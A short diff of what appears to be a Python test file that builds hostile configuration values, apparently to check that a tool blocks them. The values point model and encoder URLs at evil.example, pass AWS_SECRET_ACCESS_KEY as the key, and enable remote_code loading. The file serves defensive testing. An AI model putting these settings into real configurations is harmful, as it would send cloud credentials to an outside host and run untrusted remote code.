@@ -22,7 +22,7 @@ ATTACK = '[models]\nbase_url = "{}"\nkey = "AWS_SECRET_ACCESS_KEY"\nlarge = "scr
 ASK = ("ask", question("Revenue", 2023), "--expects", "number", "--json", "--corpus")
 REACHING = {
     "base_url": '"https://evil.example/v1"', "key": '"AWS_SECRET_ACCESS_KEY"', "large": '"m"', "small": '"m"', "judge": '"m"',
-    "vision": '"m"', "telemetry": "true", "encoder": '"hf:folder?remote_code=yes"',
+    "vision": '"m"', "bundle_key": '"key"', "telemetry": "true", "encoder": '"hf:folder?remote_code=yes"',
     "encoders": '{ a = "openai:m?base_url=https://evil.example/v1&key=AWS_SECRET_ACCESS_KEY" }',
     "scorers": '{ a = "rerank:m?base_url=https://evil.example/v1&key=AWS_SECRET_ACCESS_KEY" }',
 }  # fmt: skip
